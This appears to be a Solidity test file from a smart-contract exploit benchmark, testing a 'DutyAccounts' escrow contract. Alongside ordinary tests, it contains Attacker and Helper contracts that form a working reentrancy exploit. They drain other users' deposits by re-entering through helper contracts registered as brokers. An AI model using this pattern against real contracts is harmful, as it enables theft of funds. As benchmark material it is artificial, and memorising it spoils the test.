// SPDX-License-Identifier: MIT
pragma solidity 0.7.6;

import "./DutyAccounts.sol";

// assay-canary-c7753a1b-a7d7-4a0d-82f2-ee4017caf343

interface Vm {
    function deal(address account, uint256 amount) external;
    function expectRevert(bytes calldata reason) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant ANA = address(0xA9A);
    address private constant BEN = address(0xBE9);
    address private constant CAT = address(0xCA7);

    DutyAccounts private accounts;
    Attacker private mallory;

    function setUp() public {
        accounts = new DutyAccounts();
        accounts.transferOwnership(CAT);
        vm.deal(ANA, 50 ether);
        vm.deal(BEN, 10 ether);
        vm.prank(ANA);
        accounts.pay{value: 40 ether}();
        vm.prank(BEN);
        accounts.pay{value: 10 ether}();
        mallory = new Attacker(accounts);
        vm.deal(address(mallory), 10 ether);
    }

    function test_Regular() public {
        vm.prank(CAT);
        accounts.charge(ANA, 7 ether);
        require(CAT.balance == 7 ether && accounts.free(ANA) == 33 ether, "charged");
        vm.startPrank(ANA);
        accounts.setBroker(BEN, true);
        accounts.draw(ANA, 3 ether);
        accounts.draw(ANA, 2 ether);
        accounts.pay{value: 1 ether}();
        vm.stopPrank();
        require(ANA.balance == 14 ether && accounts.free(ANA) == 29 ether, "drawn");
        vm.startPrank(BEN);
        accounts.draw(ANA, 4 ether);
        accounts.draw(BEN, 10 ether);
        vm.stopPrank();
        require(BEN.balance == 14 ether && accounts.used(ANA) == 16 ether && accounts.free(BEN) == 0, "by a broker");
        vm.prank(ANA);
        accounts.setBroker(BEN, false);
        require(!accounts.brokers(ANA, BEN), "unlisted");
        vm.prank(CAT);
        accounts.transferOwnership(ANA);
        vm.prank(ANA);
        accounts.renounceOwnership();
    }

    function test_RefusesStrangers() public {
        vm.startPrank(BEN);
        vm.expectRevert("!broker");
        accounts.draw(ANA, 1);
        vm.expectRevert("Ownable: caller is not the owner");
        accounts.charge(ANA, 1);
        vm.stopPrank();
        vm.prank(ANA);
        accounts.setBroker(BEN, true);
        vm.prank(ANA);
        vm.expectRevert("!broker");
        accounts.draw(BEN, 1);
    }

    function test_RefusesValues() public {
        vm.expectRevert("!value");
        accounts.pay();
        vm.startPrank(ANA);
        vm.expectRevert("!free");
        accounts.draw(ANA, 40 ether + 1);
        vm.expectRevert("!zero");
        accounts.setBroker(address(0), true);
        vm.stopPrank();
        vm.prank(CAT);
        vm.expectRevert("!free");
        accounts.charge(ANA, 40 ether + 1);
    }

    function test_RefusesWithinPayments() public {
        Nested nested = new Nested(accounts);
        vm.deal(address(nested), 2 ether);
        nested.run();
        require(nested.refused() && accounts.free(address(nested)) == 1 ether, "locked");
    }

    function exploit() public {
        mallory.run();
    }

    function test_Exploit() public {
        exploit();
        require(address(mallory).balance >= 30 ether, "nothing gained");
    }

    function target() public view returns (address) {
        return address(accounts);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}

// Draws again while it is being paid.
contract Nested {
    DutyAccounts private accounts;
    bool public refused;

    constructor(DutyAccounts a) {
        accounts = a;
    }

    function run() external {
        accounts.pay{value: 2 ether}();
        accounts.draw(address(this), 1 ether);
    }

    receive() external payable {
        try accounts.draw(address(this), 1 ether) {} catch Error(string memory reason) {
            refused = keccak256(bytes(reason)) == keccak256("!drawing");
        }
    }
}

contract Helper {
    DutyAccounts private accounts;
    address payable private host;

    constructor(DutyAccounts a) {
        accounts = a;
        host = msg.sender;
    }

    function run(address importer, uint256 amount) external {
        accounts.draw(importer, amount);
    }

    receive() external payable {
        (bool sent, ) = host.call{value: msg.value}("");
        require(sent, "not sent");
    }
}

contract Attacker {
    DutyAccounts private accounts;
    Helper[] private helpers;
    uint256 private round;

    constructor(DutyAccounts a) {
        accounts = a;
    }

    function run() external {
        for (uint256 i = 0; i < 2; i++) {
            helpers.push(new Helper(accounts));
            accounts.setBroker(address(helpers[i]), true);
        }
        accounts.pay{value: 10 ether}();
        accounts.draw(address(this), 10 ether);
    }

    receive() external payable {
        if (round < 2) {
            helpers[round++].run(address(this), 10 ether);
        }
    }
}
